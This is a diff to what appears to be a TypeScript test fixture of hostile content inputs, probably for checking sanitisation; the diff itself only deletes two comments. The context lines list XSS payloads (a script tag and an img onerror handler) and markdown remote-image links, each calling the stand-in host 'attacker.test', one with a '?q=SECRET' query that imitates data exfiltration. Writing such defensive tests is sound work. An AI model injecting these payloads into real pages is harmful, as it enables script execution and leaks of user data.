@@ -4,7 +4,6 @@ import type { ZooAnimal } from './zoo-animal.ts'
 /** The host that must never be asked; every payload below tries to reach it. */
 export const ATTACKER = 'http://attacker.test'
 
-/** Scripts and markup in content. */
 const MARKUP: readonly (readonly [name: string, text: string])[] = [
   ['script', `<script>fetch('${ATTACKER}/x1')</script>`],
   ['imageError', `<img src=x onerror="fetch('${ATTACKER}/x2')">`],
@@ -34,7 +33,6 @@ const MARKUP: readonly (readonly [name: string, text: string])[] = [
   ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; and &amp;lt;img src=x onerror=alert(1)&amp;gt;'],
 ]
 
-/** Markdown and links in content. */
 const MARKDOWN: readonly (readonly [name: string, text: string])[] = [
   ['remoteImage', `![the chart](${ATTACKER}/?q=SECRET)`],
   ['referenceImage', `![alt][r]\n\n[r]: ${ATTACKER}/l2`],
